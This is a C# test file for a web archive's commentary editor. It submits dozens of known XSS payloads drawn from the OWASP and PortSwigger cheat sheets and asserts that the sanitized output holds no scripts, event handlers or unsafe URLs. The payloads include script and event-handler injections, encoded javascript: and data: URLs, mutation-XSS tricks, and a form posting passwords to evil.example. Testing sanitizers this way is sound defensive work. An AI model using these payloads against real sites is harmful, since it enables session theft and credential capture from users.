using System.Net;
using AngleSharp.Dom;
using BelarusUsArchive.Tests.Support;
using static BelarusUsArchive.Tests.Editor.Editors;

namespace BelarusUsArchive.Tests.Editor;

/// <summary>
/// Payloads from the OWASP XSS Filter Evasion Cheat Sheet, the PortSwigger XSS cheat sheet and known sanitizer
/// bypasses, written as commentary: what readers get must hold nothing that runs, restyles the page or submits anything.
/// </summary>
public class CommentarySanitizingTests : StoreTest, IClassFixture<CommentarySanitizingTests.App>
{
    private static readonly string[] ForbiddenElements =
        ["script", "iframe", "frame", "style", "form", "input", "button", "textarea", "select", "object", "embed", "svg", "math",
            "img", "meta", "link", "base", "body", "details", "noscript", "template", "video", "audio", "source"];

    private static readonly string[] AllowedSchemes = ["http", "https", "mailto"];

    private readonly App _app;

    public CommentarySanitizingTests(App app) => _app = app;

    /// <summary>One app and one signed-in editor for the table; each payload is its own commentary.</summary>
    public sealed class App : IAsyncLifetime
    {
        private TestFolder _folder = null!;

        public ArchiveApp Archive { get; private set; } = null!;
        public HttpClient Editor { get; private set; } = null!;
        public HttpClient Reader { get; private set; } = null!;

        public async ValueTask InitializeAsync()
        {
            if (!TestStore.Available)
            {
                return;
            }
            _folder = new TestFolder();
            Archive = new ArchiveApp(_folder);
            Reader = await Archive.StartAsync();
            Editor = await SignInAsync(Archive, "curator@example.org");
        }

        public async ValueTask DisposeAsync()
        {
            if (_folder is null)
            {
                return;
            }
            await Archive.DisposeAsync();
            _folder.Dispose();
        }
    }

    public static TheoryData<string> Payloads => new(
        // Script tags and their evasions
        "<script>window.__xss=1;alert(1)</script>",
        "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
        "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
        "<svg><script>alert(1)</script></svg>",
        // Event handlers
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<svg onload=alert(1)>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<a href=\"https://example.org\" onclick=\"alert(1)\">a link</a>",
        "<x onmouseover=alert(1)>hover me</x>",
        // Frames, objects, forms
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<form action=\"https://evil.example/steal\"><input name=password><button>Go</button></form>",
        "<input onfocus=alert(1) autofocus>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        // Style injection
        "<style>@import 'https://xss.example/xss.css';</style>",
        "<div style=\"background-image: url(javascript:alert(1))\">styled</div>",
        "<p style=\"width: expression(alert('XSS'));\">styled</p>",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        // javascript: and data: URLs in raw HTML, entity-encoded and split by whitespace
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
        // Markdown links and images
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](jav&#x09;ascript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "[x](https://example.org \"title\\\" onmouseover=\\\"alert(1)\")",
        "[x][ref]\n\n[ref]: javascript:alert(1)",
        // Auto-links
        "<javascript:alert(1)>",
        "<https://example.org/\" onmouseover=\"alert(1)>",
        "www.example.org/\"onmouseover=\"alert(1)",
        "https://example.org/<img src=x onerror=alert(1)>",
        // Mutation XSS and parser confusion
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        // Inside tables and footnotes
        "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
        "Footnote[^1]\n\n[^1]: [x](javascript:alert(1)) <script>alert(1)</script>");

    [Theory]
    [MemberData(nameof(Payloads))]
    public async Task Commentary_holds_nothing_that_could_run_in_a_readers_browser(string payload)
    {
        var marker = "marker-" + Guid.NewGuid().ToString("N");
        var markdown = payload + "\n\n" + marker;
        var url = $"/editor/articles/{Seed003}/commentary";

        var preview = await SubmitAsync(_app.Editor, url, new() { ["Input.Paragraph"] = "3", ["Input.Markdown"] = markdown }, "Preview");
        var saved = await SubmitAsync(_app.Editor, url, new() { ["Input.Paragraph"] = "3", ["Input.Markdown"] = markdown, ["Input.Publish"] = "true" });
        var page = await HtmlAsync(_app.Reader, $"/articles/{Seed003}");

        Assert.Equal(HttpStatusCode.OK, preview.StatusCode);
        AssertHarmless((await ParseAsync(preview)).QuerySelector(".preview .commentary-body")!);
        Assert.Equal(HttpStatusCode.Redirect, saved.StatusCode);
        var bodies = page.QuerySelectorAll("aside.commentary .commentary-body");
        Assert.Contains(bodies, body => body.TextContent.Contains(marker, StringComparison.Ordinal));
        foreach (var body in bodies)
        {
            AssertHarmless(body);
        }
    }

    private static void AssertHarmless(IElement body)
    {
        Assert.Empty(body.QuerySelectorAll(string.Join(", ", ForbiddenElements)));
        foreach (var element in body.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.Attributes, a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase));
            Assert.DoesNotContain(element.Attributes, a => a.Name is "style" or "srcdoc" or "formaction" or "action" || (a.Name.Contains("href", StringComparison.Ordinal) && a.Name != "href"));
            foreach (var url in new[] { "href", "src", "data", "action" }.Select(element.GetAttribute).OfType<string>())
            {
                Assert.True(IsSafe(url), $"<{element.LocalName} …=\"{url}\"> keeps an unsafe URL");
            }
        }
    }

    /// <summary>Relative URLs and fragments are safe; an absolute one only with http, https or mailto.</summary>
    private static bool IsSafe(string url)
    {
        // Browsers drop ASCII tabs and newlines anywhere in a URL and leading control characters and spaces.
        var cleaned = new string([.. url.Where(c => c is not ('\t' or '\n' or '\r'))]).TrimStart(
            [.. Enumerable.Range(0, 33).Select(i => (char)i)]);
        var colon = cleaned.IndexOf(':', StringComparison.Ordinal);
        var firstSeparator = cleaned.IndexOfAny(['/', '?', '#']);
        if (colon < 0 || (firstSeparator >= 0 && firstSeparator < colon))
        {
            return true;
        }
        return AllowedSchemes.Contains(cleaned[..colon], StringComparer.OrdinalIgnoreCase);
    }
}
